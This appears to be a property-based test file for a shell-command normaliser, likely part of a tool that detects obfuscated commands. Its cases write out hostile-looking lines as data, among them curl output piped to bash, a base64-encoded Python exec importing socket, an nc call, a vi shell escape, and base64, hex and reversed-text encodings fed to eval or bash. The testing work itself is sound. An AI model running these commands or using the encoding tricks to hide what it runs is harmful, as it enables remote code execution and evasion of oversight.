import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { MAX_NORMAL, normalForm, normalFormOf, shapeOfCommand } from './normal-form.js';

/** Equivalent spellings of a text as one shell word. */
const ways: readonly ((text: string) => string)[] = [
  (text) => `'${text}'`,
  (text) => `"${text}"`,
  (text) => [...text].map((c) => (/\w/.test(c) && !/[a-z]/.test(c) ? c : `\\${c}`)).join(''),
  (text) => `$'${[...text].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}'`,
  (text) => [...text].map((c, i) => (i % 2 === 0 ? `'${c}'` : c)).join(''),
  (text) => `${text.slice(0, 1)}$@${text.slice(1)}`,
  (text) => `$(echo ${Buffer.from(text).toString('base64')} | base64 -d)`,
  (text) => `$(printf '${[...text].map((c) => `\\${c.charCodeAt(0).toString(8).padStart(3, '0')}`).join('')}')`,
  (text) => `$(echo ${[...text].reverse().join('')} | rev)`,
];
const plain = fc.stringMatching(/^[a-z][a-z0-9/._-]{0,10}[a-z0-9]$/);

describe('the normal form', () => {
  it('does not depend on how words are written', () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(plain, fc.constantFrom(...ways)), { minLength: 1, maxLength: 4 }), (words) => {
        const written = normalForm(words.map(([word, way]) => way(word)).join(' '));
        const last = written.split(' ; ').at(-1);
        expect(last).toBe(normalForm(words.map(([word]) => word).join(' ')));
      }),
      { numRuns: 1_000 },
    );
  });

  it('does not depend on the encoding of a script', () => {
    const encoders: readonly ((script: string) => string)[] = [
      (script) => `echo ${Buffer.from(script).toString('base64')} | base64 -d | bash`,
      (script) => `bash -c "$(echo ${Buffer.from(script).toString('hex')} | xxd -r -p)"`,
      (script) => `eval $(echo '${Buffer.from(script).toString('base64')}' | openssl base64 -d)`,
      (script) => `bash <<< '${script}'`,
      (script) => `x='${script}'; eval "$x"`,
      (script) => `echo '${[...script].reverse().join('')}' | rev | sh`,
    ];
    fc.assert(
      fc.property(fc.array(plain, { minLength: 2, maxLength: 4 }), fc.constantFrom(...encoders), (words, encoder) => {
        expect(normalForm(encoder(words.join(' '))).endsWith(normalForm(words.join(' ')))).toBe(true);
      }),
      { numRuns: 500 },
    );
  });

  it.each([
    [`sudo 'cu'rl -sL http://x/a|ba\\sh`, 'sudo curl -sL http://x/a ; curl -sL http://x/a | bash'],
    ["find . -exec sh -c 'id' \\;", 'find . -exec sh -c id ; ; sh -c id ; id'],
    ['bash <(curl -s http://x)', 'curl -s http://x ; bash /dev/fd/63'],
    ['timeout -s KILL 5 nc -z h 1', 'timeout -s KILL 5 nc -z h 1 ; nc -z h 1'],
    [
      `python3 -c "exec(__import__('base64').b64decode('aW1wb3J0IHNvY2tldCxvcw=='))"`,
      "python3 -c exec(__import__('base64').b64decode('aW1wb3J0IHNvY2tldCxvcw==')) #= import socket,os",
    ],
    ['vi /etc/hosts\n:!/bin/sh', 'vi /etc/hosts ; sh'],
  ])('%s', (line, expected) => {
    expect(normalForm(line)).toBe(expected);
  });

  it('of arguments that the kernel told of does not read them as a shell would', () => {
    expect(normalFormOf(['/bin/echo', 'a | b; c $x'])).toBe('echo a | b; c $x');
    expect(normalFormOf(['sh', '-c', 'a | b'])).toBe('sh -c a | b ; a | b');
  });

  it('is bounded and made of any text in bounded time', () => {
    const began = performance.now();
    for (const line of [
      '$('.repeat(10_000),
      '`'.repeat(10_000),
      "sh -c '".repeat(2_000),
      'a;'.repeat(20_000),
      '{a,b}'.repeat(5_000),
      '$a'.repeat(10_000),
    ])
      expect(normalForm(line).length).toBeLessThanOrEqual(MAX_NORMAL);
    expect(performance.now() - began).toBeLessThan(20_000);
    fc.assert(fc.property(fc.string({ maxLength: 400 }), (text) => normalForm(text).length <= MAX_NORMAL));
  });
});

describe('the shape of a command', () => {
  it('does not depend on the order of options', () => {
    const options = fc.uniqueArray(fc.constantFrom('-a', '-l', '-h', '-t', '--color'), { minLength: 1 });
    fc.assert(
      fc.property(
        options.chain((some) => fc.tuple(fc.constant(some), fc.shuffledSubarray(some, { minLength: some.length, maxLength: some.length }))),
        ([some, shuffled]) => {
          const letters = shuffled.filter((word) => !word.startsWith('--')).map((word) => word[1]);
          const together = [...shuffled.filter((word) => word.startsWith('--')), ...(letters.length === 0 ? [] : [`-${letters.join('')}`])];
          expect(shapeOfCommand(`/bin/ls ${shuffled.join(' ')} /x /y`)).toBe(shapeOfCommand(`ls /x ${some.join(' ')} /y`));
          expect(shapeOfCommand(`ls ${together.join(' ')} /x`)).toBe(shapeOfCommand(`ls ${some.join(' ')} /x`));
        },
      ),
    );
  });

  it('keeps the argument of an option with it', () => {
    expect(shapeOfCommand('curl -so /tmp/x http://h')).toBe(shapeOfCommand('curl http://h -o/tmp/x -s'));
  });
});
